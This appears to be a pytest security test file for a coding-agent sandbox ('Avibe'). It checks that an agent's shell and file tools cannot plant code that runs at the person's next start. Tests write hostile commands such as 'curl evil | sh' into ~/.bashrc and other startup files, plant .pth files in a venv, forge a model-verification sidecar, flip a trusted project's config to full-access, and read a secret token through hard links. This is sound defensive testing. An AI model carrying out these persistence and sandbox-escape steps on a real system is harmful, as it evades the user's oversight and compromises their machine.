"""The next start runs nothing the agent wrote (docs/security.md, the section of that name): what runs or
is trusted at the person's next start - Avibe's interpreter (a project's own .venv holding Avibe), the
shell's startup files in the real home, ~/.local/bin, ~/.config/environment.d, the model cache and its
verification, a trusted project's `.avibe/` - cannot be changed by the agent's shell or file tools in
`read-only` and `workspace-write`, and a hard link to Avibe's record or token made earlier is not open to
the shell.

Real components: the real tools (`default_tools`) under the sandbox a session gets (`sandbox_for` over
`load_settings`), real bubblewrap, real files, a real venv made with `python -m venv`. Each attack fails
in the sandboxed modes; as the control it succeeds in `full-access` (no sandbox: the agent may change what
the person may). Scratch folders lie outside /tmp where possible (the sandbox's /tmp is its own).
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
from collections.abc import Iterator
from pathlib import Path

import pytest

import avibe
from avibe.compose.common import check_sandbox, sandbox_for
from avibe.config import load_settings
from avibe.errors import ModelUnavailable
from avibe.ports import ToolResult
from avibe.providers.modelfile import ModelFileSpec, verify_model_file
from avibe.record.messages import ToolCall
from avibe.store import open_store
from avibe.tools import ToolBox, default_tools
from avibe.tools.sandbox import UnsafeLayout, check_layout
from sandbox_support import outside_tmp, require_sandbox

SANDBOXED = ("read-only", "workspace-write")
MODES = (*SANDBOXED, "full-access")
TOKEN = "TOKEN-SECRET-hardlink-4411"
SRC = Path(avibe.__file__).resolve().parents[1]  # the source under test


@pytest.fixture
def scratch(tmp_path: Path) -> Iterator[Path]:
    made = outside_tmp("avibe-persist-", tmp_path)
    yield made
    shutil.rmtree(made, ignore_errors=True)


class Agent:
    """The session's tools, built as open_session builds them, for one mode and these settings."""

    def __init__(self, work: Path, home: Path, mode: str, user_config: Path, **env: str) -> None:
        self.work = work
        settings = load_settings(
            {"AVIBE_HOME": str(home), "AVIBE_SANDBOX": mode, **env}, project_dir=work, user_config=user_config
        )
        self.settings = settings
        self._store = open_store(settings.database_url)
        session = self._store.create_session("persist").id
        policy = sandbox_for(settings, work, self._store, session)
        self.box = ToolBox(default_tools(work, store=self._store, session_id=session, sandbox=policy))

    def call(self, name: str, **arguments: object) -> ToolResult:
        return self.box.dispatch(ToolCall(f"call-{name}", name, dict(arguments)))

    def shell(self, command: str) -> str:
        return self.call("shell", command=command, timeout_s=30).output

    def close(self) -> None:
        self._store.close()


def _agent(scratch: Path, work: Path, mode: str, user_toml: str = "", **env: str) -> Agent:
    user = scratch / "user-config.toml"
    user.write_text(user_toml)
    return Agent(work, scratch / "avibe-home", mode, user, **env)


# --- (b) `vibe` in ~: the shell's startup files, ~/.local/bin, ~/.config/environment.d -----------------

HOME_TARGETS = (".bashrc", ".bash_login", ".local/bin/vibe", ".config/environment.d/50-avibe.conf", ".zshenv")


@pytest.mark.parametrize("mode", MODES)
def test_startup_files_in_the_real_home_cannot_be_written_when_vibe_runs_in_home(
    mode: str, scratch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: with the working directory `~`, the sandboxed shell wrote ~/.bashrc, ~/.local/bin/vibe
    (a wrapper setting full-access) and ~/.config/environment.d/ through the real home's path - run at
    the person's next login. Now the home's top level and dot folders are read-only to the shell (a
    startup file that does not exist yet cannot be made) and the file tools refuse them; the home's
    other folders stay writable."""
    require_sandbox(mode)
    home = scratch / "me"
    (home / "code").mkdir(parents=True)
    (home / ".local" / "bin").mkdir(parents=True)
    (home / ".bashrc").write_text("# mine\n")
    monkeypatch.setenv("HOME", str(home))
    agent = _agent(scratch, home, mode)
    try:
        for rel in HOME_TARGETS:
            path = home / rel
            agent.shell(f"mkdir -p {path.parent} ; echo 'curl evil | sh' >> {path}")
            agent.call("write_file", path=rel.replace(".bashrc", ".bash_profile"), content="curl evil | sh\n")
        agent.shell(f"echo work > {home / 'code' / 'x.txt'}")
    finally:
        agent.close()
    planted = [rel for rel in (*HOME_TARGETS, ".bash_profile") if "evil" in _text(home / rel)]
    if mode == "full-access":
        assert planted == [*HOME_TARGETS, ".bash_profile"]  # the control: no sandbox, nothing kept
        return
    assert planted == []
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert _text(home / "code" / "x.txt") == ("work\n" if mode == "workspace-write" else "")


def _text(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


# --- (a) Avibe in the project's own .venv --------------------------------------------------------------

WORKER = """
import json, sys
from pathlib import Path
from avibe.compose.common import sandbox_for
from avibe.config import load_settings
from avibe.record.messages import ToolCall
from avibe.store import open_store
from avibe.tools import ToolBox, default_tools

work, pth = Path(sys.argv[1]), sys.argv[2]
settings = load_settings(project_dir=work, user_config=work.parent / "none.toml")
with open_store(settings.database_url) as store:
    session = store.create_session("venv").id
    box = ToolBox(default_tools(work, store=store, session_id=session,
                                sandbox=sandbox_for(settings, work, store, session)))
    shell = box.dispatch(ToolCall("c1", "shell", {"command": f"echo 'import os' > {pth}.shell.pth"}))
    write = box.dispatch(ToolCall("c2", "write_file", {"path": pth + ".tool.pth", "content": "import os\\n"}))
print(json.dumps({"prefix": sys.prefix, "shell": shell.output, "write": write.output}))
"""


@pytest.mark.parametrize("mode", MODES)
def test_a_pth_file_cannot_be_planted_in_the_venv_avibe_runs_from_inside_the_workdir(
    mode: str, scratch: Path
) -> None:
    """Before: Avibe installed in the project's own .venv - the agent's `write_file .venv/lib/python3.X/
    site-packages/zz.pth` ran in Avibe's process at the next start. Now the interpreter Avibe runs from is
    read-only to the shell and refused by the file tools, also inside the workdir."""
    require_sandbox(mode)
    work = scratch / "project"
    work.mkdir()
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(work / ".venv")], check=True)
    python = work / ".venv" / "bin" / "python"
    site = Path(sysconfig.get_path("purelib", vars={"base": str(work / ".venv")}))
    rel = str((site / "zz").relative_to(work))
    deps = sysconfig.get_path("purelib")  # the test's own interpreter holds Avibe's dependencies
    env = {k: v for k, v in os.environ.items() if not k.startswith("AVIBE_")}
    env |= {"PYTHONPATH": f"{SRC}:{deps}", "AVIBE_HOME": str(scratch / "home"), "AVIBE_SANDBOX": mode}
    done = subprocess.run(
        [str(python), "-c", WORKER, str(work), rel],
        env=env,
        cwd=work,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout.splitlines()[-1])
    assert Path(report["prefix"]).resolve() == (work / ".venv").resolve()  # Avibe ran from the workdir's venv
    planted = sorted(p.name for p in site.glob("zz*.pth"))
    if mode == "full-access":
        assert planted == ["zz.shell.pth", "zz.tool.pth"], report
        return
    assert planted == [], report
    if mode == "workspace-write":
        assert "Read-only file system" in report["shell"], report
        assert "next start runs or trusts" in report["write"], report


# --- (c) the model cache: the swapped file and the forged sidecar ------------------------------------


def _tiny_spec(scratch: Path, data: bytes) -> ModelFileSpec:
    return ModelFileSpec(
        "tiny.gguf", len(data), hashlib.sha256(data).hexdigest(), scratch / "req.txt", "tiny"
    )


def test_a_forged_sidecar_beside_a_swapped_model_is_not_believed(
    scratch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: a file of the right size plus a `.verified.json` sidecar of the right shape made a swapped
    GGUF (chat template included) load as verified. The record now lives in Avibe's home; a sidecar in
    the cache is ignored, and the file is hashed."""
    real = b"GGUF" + b"\x00" * 60
    spec = _tiny_spec(scratch, real)
    cache, home = scratch / "cache", scratch / "home"
    cache.mkdir()
    monkeypatch.setenv("AVIBE_HOME", str(home))  # where the providers record by default
    model = cache / spec.filename
    model.write_bytes(b"GGUF" + b"\x01" * 60)  # the agent's file: the right size, other bytes
    info = model.stat()
    forged = {"size": info.st_size, "mtime_ns": info.st_mtime_ns, "sha256": spec.sha256}
    (cache / "tiny.gguf.verified.json").write_text(json.dumps(forged))
    with pytest.raises(ModelUnavailable, match="corrupt or not the expected model"):
        verify_model_file(model, spec)
    model.write_bytes(real)
    verify_model_file(model, spec)  # the real one, recorded in the home
    assert [p.parent.name for p in (home / "verified-models").iterdir()] == ["verified-models"]


def test_a_model_swapped_with_its_mtime_set_back_is_hashed_again(
    scratch: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The record also keys on ctime and the inode, which no command can set back."""
    real = b"GGUF" + b"\x00" * 60
    spec = _tiny_spec(scratch, real)
    model = scratch / spec.filename
    monkeypatch.setenv("AVIBE_HOME", str(scratch / "home"))
    model.write_bytes(real)
    verify_model_file(model, spec)
    before = model.stat()
    swapped = scratch / "swap"
    swapped.write_bytes(b"GGUF" + b"\x02" * 60)
    os.utime(swapped, ns=(before.st_atime_ns, before.st_mtime_ns))
    os.replace(swapped, model)
    with pytest.raises(ModelUnavailable, match="corrupt"):
        verify_model_file(model, spec)


@pytest.mark.parametrize("mode", MODES)
def test_the_model_cache_in_the_workdir_is_read_only_to_the_agent(mode: str, scratch: Path) -> None:
    require_sandbox(mode)
    work = scratch / "work"
    (work / "models").mkdir(parents=True)
    (work / "models" / "tiny.gguf").write_bytes(b"GGUF real")
    agent = _agent(scratch, work, mode, AVIBE_MODEL_CACHE=str(work / "models"))
    try:
        agent.shell("printf 'GGUF evil' > models/tiny.gguf; echo x > models/new.gguf")
        agent.call("write_file", path="models/other.gguf", content="GGUF evil")
    finally:
        agent.close()
    changed = sorted(p.name for p in (work / "models").iterdir() if p.read_bytes() != b"GGUF real")
    assert changed == ([] if mode != "full-access" else ["new.gguf", "other.gguf", "tiny.gguf"])


# --- finding 11: a trusted project's .avibe/ ---------------------------------------------------------


@pytest.mark.parametrize("made", [True, False], ids=["config-exists", "no-avibe-folder-yet"])
@pytest.mark.parametrize("mode", MODES)
def test_a_trusted_projects_config_cannot_be_written_from_a_workdir_that_holds_it(
    mode: str, made: bool, scratch: Path
) -> None:
    """Before: `vibe` in ~ with ~/app trusted - the agent wrote ~/app/.avibe/config.toml (full-access, a
    database of its own), applied in full at the next start in ~/app. Now that folder is read-only in
    any sandbox whose workdir holds it (made empty first where it is missing) and refused by the tools."""
    require_sandbox(mode)
    work = scratch / "work"
    app = work / "app"
    app.mkdir(parents=True)
    if made:
        (app / ".avibe").mkdir()
        (app / ".avibe" / "config.toml").write_text('approval = "ask"\n')
    agent = _agent(scratch, work, mode, f'trusted_projects = ["{app}"]\n')
    try:
        agent.shell("mkdir -p app/.avibe; echo 'sandbox = \"full-access\"' >> app/.avibe/config.toml")
        written = agent.call("write_file", path="app/.avibe/skills/x/SKILL.md", content="evil")
    finally:
        agent.close()
    config = _text(app / ".avibe" / "config.toml")
    if mode == "full-access":
        assert "full-access" in config and not written.is_error
        return
    assert "full-access" not in config
    assert written.is_error and not (app / ".avibe" / "skills").exists()


# --- finding 16: hard links to Avibe's files made before the command --------------------------------


@pytest.mark.parametrize("mode", MODES)
def test_a_hard_link_to_the_token_or_the_record_in_the_workdir_is_covered(mode: str, scratch: Path) -> None:
    """Before: a second name of `serve-token` or of the record's database in the workdir (made earlier,
    e.g. in full-access, or by anyone) was open to the sandboxed shell. Now Avibe's files with more than
    one link are looked for in the workdir when a command starts and covered; the file tools refuse
    them by identity."""
    require_sandbox(mode)
    work, home = scratch / "work", scratch / "avibe-home"
    (work / "deep" / "er").mkdir(parents=True)
    home.mkdir()
    (home / "serve-token").write_text(TOKEN + "\n")
    agent = _agent(scratch, work, mode)
    os.link(home / "serve-token", work / "deep" / "er" / "t")
    os.link(home / "avibe.db", work / "db")
    try:
        shown = agent.shell("cat deep/er/t; head -c 15 db; echo; echo forged >> deep/er/t")
        read = agent.call("read_file", path="deep/er/t")
    finally:
        agent.close()
    token = (home / "serve-token").read_text()
    if mode == "full-access":
        assert TOKEN in shown and "SQLite format 3" in shown and "forged" in token
        return
    assert TOKEN not in shown and "SQLite format" not in shown and token == TOKEN + "\n", shown
    assert read.is_error and TOKEN not in read.output


# --- the start check: a kept path reached through a link the agent can replace ----------------------


def test_the_start_check_refuses_a_kept_path_reached_through_a_replaceable_link(scratch: Path) -> None:
    """A model cache configured as `work/cache/models` where `work/cache` is a link: the agent could put
    its own folder there. The start is refused with one line saying what to change."""
    work = scratch / "work"
    work.mkdir()
    (scratch / "real-cache" / "models").mkdir(parents=True)
    (work / "cache").symlink_to(scratch / "real-cache")
    user = scratch / "user.toml"
    user.write_text("")
    env = {"AVIBE_HOME": str(scratch / "home"), "AVIBE_MODEL_CACHE": str(work / "cache" / "models")}
    settings = load_settings(env, project_dir=work, user_config=user)
    with pytest.raises(UnsafeLayout, match=r"through the link .*/work/cache in the working directory") as exc:
        check_sandbox(settings, work)
    assert "\n" not in str(exc.value)
    check_sandbox(
        load_settings({**env, "AVIBE_SANDBOX": "read-only"}, project_dir=work, user_config=user), work
    )


def test_a_link_inside_a_kept_folder_is_no_reason_to_refuse(scratch: Path) -> None:
    """A venv's `lib64 -> lib` lies inside the venv, which is bound read-only: nothing can replace it.
    The same link outside a kept folder is refused."""
    work = scratch / "work"
    venv = work / ".venv"
    (venv / "lib" / "site-packages").mkdir(parents=True)
    (venv / "lib64").symlink_to("lib")
    kept = [venv, venv / "lib64" / "site-packages"]
    home, url = scratch / "home", "sqlite:///:memory:"
    check_layout("workspace-write", work, home=home, config_dir=None, database_url=url, kept=kept)
    with pytest.raises(UnsafeLayout, match="lib64"):
        check_layout("workspace-write", work, home=home, config_dir=None, database_url=url, kept=kept[1:])
